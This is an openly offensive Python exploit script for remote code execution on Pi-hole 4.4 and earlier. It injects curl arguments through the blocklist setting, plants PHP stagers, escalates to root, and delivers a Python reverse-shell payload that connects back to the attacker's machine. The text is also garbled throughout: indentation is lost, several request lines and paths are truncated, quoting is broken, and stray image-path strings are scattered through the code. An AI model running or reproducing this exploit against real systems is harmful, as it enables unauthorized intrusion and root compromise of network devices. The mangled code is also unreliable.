#!/usr/bin/env python3
# Pi-hole <= 4.4 RCE
# Author: Nick Frichette
# Homepage:
# Note: Thisexploit must be run with root privileges and port 80 must not be occupied.
# While it is possible to exploit this from a nonstandard port, for the sake of
# simplicity (and not having to modify the payload) please run it with sudo privileges.
# Or setup socat and route it through there?
import requests
import sys
import socket
import _thread
import time
if len(sys.argv) < 4:
print("[-] Usage: sudo ./ *Session Cookie* *URL of Target* *Your IP* *R Shell Port*")
print("\nThis script will take 5 parameters:\n Session Cookie: The authenticated session token.\n URL of Target: The target's url, example:\n Your IP: The IP address of the listening machine.\nReverse Shell Port: The listening port for your reverse shell.")
SESSION = dict(PHPSESSID=sys.argv[1])
TARGET_IP = sys.argv[2]
LOCAL_IP = sys.argv[3]
LOCAL_PORT = sys.argv[4]
# Surpress https verify warnings
# I'm asuming some instances will use self-signed certs
# Payload taken from
# I opted to use the Python3 reverse shell one liner over the full PHP reverse shell.
shell_payload = """<?php
shell_exec("python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\\\"%s\\\",%s));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);[\\"/bin/sh\\",\\"-i\\"]);'")
root_payload = """<?php
shell_exec("sudo pihole -a -t")
def send_response(thread_name):
sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
connected = False
while not connected:
conn,addr = sock.accept()
if thread_name == "T1":
print("[+] Received First Callback")conn.sendall(b"HTTP/1.1 200 OK\n\nstuff\n")
elif thread_name == "T2":
print("[+] Received Second Callback")
print("[+] Uploading Root Payload")
conn.sendall(bytes(root_payload, "utf-8"))
elif thread_name == "T3":
print("[+] Received Third Callback")
conn.sendall(b"HTTP/1.1 200 OK\n\nstuff\n")
print("[+] Received Fourth Callback")
print("[+] Uploading Shell Payload")
conn.sendall(bytes(shell_payload, "utf-8"))
connected = True
# Fetch token
resp =requests.get(TARGET_IP+"/admin/settings.php?tab=blocklists", cookies=SESSION, verify=False)
response = str(resp.content)
token_loc = response.find("name=\"token\"")
token = response[token_loc+20:token_loc+64]
# Make request with token
data = {"newuserlists":"http://"+LOCAL_IP+"#\" -o fun.php -d \"","field":"adlists","token":token,"submit":"saveupdate"}
resp ="/admin/settings.php?tab=blocklists", cookies=SESSION, data=data, verify=False)
if resp.status_code == 200:
print("[+] Put Root Stager Success")
# Update gravity
resp = requests.get(TARGET_IP+"/admin/scripts/pi-hole/php/", cookies=SESSION, verify=False)
# Update again to trigger upload of root redirect
resp = requests.get(TARGET_IP+"/admin/scripts/pi-hole/php/", cookies=SESSION, verify=False)
data = {"newuserlists":"http://"+LOCAL_IP+"#\" -o teleporter.php -d \"","field":"adlists","token":token,"submit":"saveupdate"}
resp ="/admin/settings.php?tab=blocklists", cookies=SESSION, data=data, verify=False)
if resp.status_code == 200:
print("[+] Put Shell Stager Success")
resp = requests.get(TARGET_IP+"/admin/scripts/pi-hole/php/", cookies=SESSION, verify=False)
resp = requests.get(TARGET_IP+"/admin/scripts/pi-hole/php/", cookies=SESSION, verify=False)
print("[+] Triggering Exploit")
requests.get(TARGET_IP+"/admin/scripts/pi-hole/php/fun.php", cookies=SESSION, timeout=3, verify=False)# We should be silentto avoid filling the cli window